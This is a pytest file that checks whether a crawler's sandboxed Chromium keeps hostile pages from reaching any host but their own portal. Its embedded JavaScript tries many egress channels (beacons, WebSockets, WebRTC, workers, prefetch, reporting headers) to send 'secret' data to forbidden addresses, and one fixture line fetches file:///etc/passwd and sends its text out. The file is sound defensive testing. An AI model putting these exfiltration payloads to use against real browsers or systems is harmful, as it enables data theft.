"""What a page in Chromium can reach: its portal, inside the crawl's guard, and nothing else by whatever way."""

import importlib.util
import itertools
import shutil
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from crawler.middlewares import browser
from tests.faults.crawl import crawl, seed
from tests.faults.pages import portal, report
from tests.faults.server import FaultServer, Hit, Wire, reply
from tests.faults.tls import TlsServer

pytestmark = pytest.mark.skipif(
    importlib.util.find_spec("scrapy_playwright") is None
    or not any(map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))),
    reason="needs Chromium and the extra: apt-get install chromium && python3 run.py --with browser test",
)

HOST, NEIGHBOUR = "127.88.41.1", "127.88.41.2"  # the second is a portal that may be crawled, but not this one's
FORBIDDEN = "127.99.41.1"
SOUND = portal(lambda hit, times: reply(report(2023)))

SCRIPT = """
const ways = %s;
const quietly = (way) => { try { const it = way(); if (it && it.catch) it.catch(() => {}); } catch (error) {} };
const add = (name, members, child) => document.body.appendChild(Object.assign(document.createElement(name), members));
for (const to of ways) {
  const inner = `<script>fetch('http://${to}/frame', {mode: 'no-cors'}); new WebSocket('ws://${to}/frame');<\\/script>`;
  quietly(() => add('iframe', {srcdoc: inner}));
  quietly(() => add('iframe', {src: `http://${to}/src`}));
  quietly(() => fetch(`/jump?http://${to}/302`, {mode: 'no-cors'}));
  quietly(() => fetch(`/kept?http://${to}/307`, {method: 'POST', body: 'secret'}));
  quietly(() => fetch(`http://${to}/post`, {method: 'POST', mode: 'no-cors', body: 'secret'}));
  quietly(() => navigator.sendBeacon(`http://${to}/beacon`, 'secret'));
  quietly(() => window.open(`http://${to}/popup`));
  quietly(() => new WebSocket(`ws://${to}/socket`));
  quietly(() => new EventSource(`http://${to}/events`));
  quietly(() => new Worker(URL.createObjectURL(new Blob([`fetch('http://${to}/worker', {mode: 'no-cors'})`]))));
  quietly(() => {
    const form = add('form', {action: `http://${to}/form`, method: 'post', target: 'hidden'});
    add('iframe', {name: 'hidden'});
    form.submit();
  });
  quietly(() => {
    const peer = new RTCPeerConnection({iceServers: [{urls: `stun:${to}`}]});
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  for (const kind of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender']) {
    quietly(() => document.head.appendChild(Object.assign(document.createElement('link'), {rel: kind, href: `http://${to}/`})));
  }
}
setTimeout(() => {
  document.getElementById('app').innerHTML = '<a href="/nb/">政府信息公开年报</a>';
}, 1500);
fetch('/wait');
"""


STRANGER_WAYS = """
const ways = %s;
const quietly = (way) => { try { const it = way(); if (it && it.catch) it.catch(() => {}); } catch (error) {} };
const add = (name, members) => document.body.appendChild(Object.assign(document.createElement(name), members));
for (const to of ways) {
  quietly(() => {
    const turn = {urls: `turn:${to}?transport=tcp`, username: 'a', credential: 'a'};
    const peer = new RTCPeerConnection({iceServers: [turn]});
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  quietly(() => new WebTransport(`https://${to}/transport`));
  quietly(() => navigator.serviceWorker.register('/worker.js'));
  quietly(() => new SharedWorker('/worker.js'));
  quietly(() => import(`http://${to}/module.js`));
  quietly(() => fetchLater(`http://${to}/later`, {activateAfter: 0}));
  quietly(() => fetch(`https://${to}/tls`, {mode: 'no-cors', keepalive: true}));
  quietly(() => new Image().src = `http://${to}/image`);
  quietly(() => document.fonts.add(new FontFace('x', `url(http://${to}/font)`)) && document.fonts.load('1px x'));
  quietly(() => add('a', {ping: `http://${to}/ping`, href: '#', target: '_self'}).click());
  quietly(() => add('a', {download: 'x', target: '_blank', href: `http://${to}/download`}).click());
  quietly(() => add('style', {textContent: `@import "http://${to}/style"; body {background: url(http://${to}/background)}`}));
  for (const [name, where] of [['object', 'data'], ['embed', 'src'], ['video', 'src'], ['script', 'src']]) {
    quietly(() => add(name, {[where]: `http://${to}/${name}`}));
  }
  quietly(() => add('iframe', {srcdoc: `<meta http-equiv="refresh" content="0;url=http://${to}/refresh">`}));
  quietly(() => add('iframe', {srcdoc: `<iframe srcdoc="<img src='http://${to}/inner'>"></iframe>`}));
  for (const what of ['prefetch', 'prerender']) {
    const rules = JSON.stringify({[what]: [{source: 'list', urls: [`http://${to}/${what}`]}]});
    quietly(() => add('script', {type: 'speculationrules', textContent: rules}));
  }
  for (const kind of ['preload', 'modulepreload', 'icon']) {
    quietly(() => document.head.appendChild(Object.assign(document.createElement('link'), {rel: kind, href: `http://${to}/`})));
  }
}
for (const file of ['file:///etc/passwd', 'view-source:file:///etc/passwd', 'chrome://version', 'ftp://127.99.41.1/']) {
  quietly(() => add('iframe', {src: file}));
  quietly(() => fetch(file).then((got) => got.text()).then((text) => fetch('/stolen?' + encodeURIComponent(text))));
  quietly(() => window.open(file));
}
fetch('/wait');
"""


class _Listener:
    """Counts who connects by TCP or sends by UDP to one address and port."""

    def __init__(self, host: str) -> None:
        self.tcp = socket.create_server((host, 0))
        self.port: int = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind((host, self.port))
        self.place = f"{host}:{self.port}"
        self.hits: list[str] = []

    def listen(self) -> None:
        for wait in (self._tcp, self._udp):
            threading.Thread(target=wait, daemon=True).start()

    def _tcp(self) -> None:
        while True:
            try:
                client, _ = self.tcp.accept()
            except OSError:
                return
            self.hits.append("tcp")
            client.close()

    def _udp(self) -> None:
        while True:
            try:
                self.udp.recv(2048)
            except OSError:
                return
            self.hits.append("udp")

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@contextmanager
def listeners(*hosts: str) -> Iterator[list[_Listener]]:
    """One for each host, listening while the block lasts."""
    made = [_Listener(host) for host in hosts]
    for one in made:
        one.listen()
    try:
        yield made
    finally:
        for one in made:
            one.close()


def hostile(places: list[str], script: str = SCRIPT) -> Iterator[str]:
    """The two pages: a shell, and the script that tries every way out before it draws."""
    yield (
        '<html><head><meta charset="utf-8"><title>望溪区人民政府</title></head><body><div id="app"></div>'
        '<noscript>请启用 JavaScript</noscript><script src="/app.js"></script></body></html>'
    )
    yield script % places


def _reporting(place: str) -> list[str]:
    """Headers that have a browser send reports and ask for more by itself."""
    return [
        f"Content-Security-Policy-Report-Only: default-src 'none'; report-uri http://{place}/csp; report-to there",
        f'Reporting-Endpoints: there="https://{place}/reports"',
        'NEL: {"report_to": "there", "max_age": 1000, "success_fraction": 1}',
        f'Report-To: {{"group": "there", "max_age": 1000, "endpoints": [{{"url": "https://{place}/to"}}]}}',
        f"Link: <http://{place}/early>; rel=preload; as=script, <http://{place}>; rel=preconnect",
        f"Refresh: 60; url=http://{place}/refresh",
    ]


def test_neither_reports_workers_pings_downloads_nor_other_schemes_reach_anything(tmp_path: Path) -> None:
    with listeners(FORBIDDEN, NEIGHBOUR) as forbidden:
        shell, script = hostile([one.place for one in forbidden], STRANGER_WAYS)

        def answer(hit: Hit, times: int) -> Wire:
            match hit.path.partition("?")[0]:
                case "/":
                    return reply(shell, headers=_reporting(forbidden[0].place))
                case "/app.js":
                    return reply(script, kind="application/javascript; charset=utf-8")
                case "/worker.js":
                    worker = f"fetch('http://{forbidden[0].place}/worker', {{mode: 'no-cors'}})"
                    return reply(worker, kind="application/javascript")
                case "/wait":
                    return Wire(reply("").chunks, before=1.6)
            return SOUND(hit, times)

        with FaultServer({HOST: answer}) as server:
            crawl([seed(server.url(HOST), "X-1")], tmp_path, DOWNLOAD_TIMEOUT=20, **browser.settings())
            paths = {hit.path for hit in server.hits(HOST)}
        reached = {one.place: one.hits for one in forbidden}
    assert not any(reached.values()), reached
    assert {"/app.js", "/wait"} <= paths, "the script did not run"
    assert not [path for path in paths if path.startswith("/stolen")]


def test_a_page_reaches_nothing_but_its_portal_and_that_within_the_guard(tmp_path: Path) -> None:
    with listeners(FORBIDDEN, NEIGHBOUR) as forbidden:
        shell, script = hostile([one.place for one in forbidden])

        def answer(hit: Hit, times: int) -> Wire:
            path, _, query = hit.path.partition("?")
            match path:
                case "/":
                    return reply(shell)
                case "/app.js":
                    return reply(script, kind="application/javascript; charset=utf-8")
                case "/wait":
                    return Wire(reply("").chunks, before=1.6)
                case "/jump":
                    return reply("", status="302 Found", headers=[f"Location: {query}"])
                case "/kept":
                    return reply("", status="307 Temporary Redirect", headers=[f"Location: {query}"])
            return SOUND(hit, times)

        with FaultServer({HOST: answer}) as server:
            run = crawl(
                [seed(server.url(HOST), "X-1")],
                tmp_path,
                DOWNLOAD_DELAY=0.3,
                DOWNLOAD_TIMEOUT=20,
                **browser.settings(),
            )
            hits = server.hits(HOST)
        reached = {one.place: one.hits for one in forbidden}
    assert not any(reached.values()), reached
    assert run.select("SELECT outcome FROM portal") == [("ok",)]
    assert {"/app.js", "/wait"} <= {hit.path for hit in hits}, "the page was drawn"
    assert {hit.headers["user-agent"].partition("/")[0] for hit in hits} == {"nianbao"}
    assert not [name for hit in hits for name in hit.headers if name.startswith("sec-")]
    times = sorted(hit.time for hit in hits)
    assert min(after - before for before, after in itertools.pairwise(times)) >= 0.2


def test_what_a_page_asks_for_is_paid_from_the_portals_budget(tmp_path: Path) -> None:
    shell = next(hostile([]))
    script = "for (let n = 0; n < 60; n++) fetch('/api?n=' + n);"

    def answer(hit: Hit, times: int) -> Wire:
        if hit.path == "/app.js":
            return reply(script, kind="application/javascript")
        return reply("{}", kind="application/json") if hit.path.startswith("/api") else reply(shell)

    with FaultServer({HOST: answer}) as server:
        crawl([seed(server.url(HOST), "X-1")], tmp_path, HOST_REQUESTS=20, **browser.settings())
        assert len(server.log) == 20


def test_a_drawn_page_keeps_the_mark_of_a_worthless_certificate(tmp_path: Path) -> None:
    shell = next(hostile([]))
    script = "document.getElementById('app').innerHTML = '<a href=\"/nb/\">政府信息公开年报</a>';"

    def answer(hit: Hit, times: int) -> Wire:
        if hit.path == "/app.js":
            return reply(script, kind="application/javascript; charset=utf-8")
        return reply(shell) if hit.path == "/" else SOUND(hit, times)

    with TlsServer(HOST, answer, tmp_path) as server:
        run = crawl([seed(server.url, "X-1")], tmp_path, DOWNLOAD_TIMEOUT=20, FILE_TIMEOUT=20, **browser.settings())
    assert run.select("SELECT outcome FROM portal") == [("ok",)]
    assert run.select("SELECT DISTINCT tls FROM download") == [("tls_unverified",)]
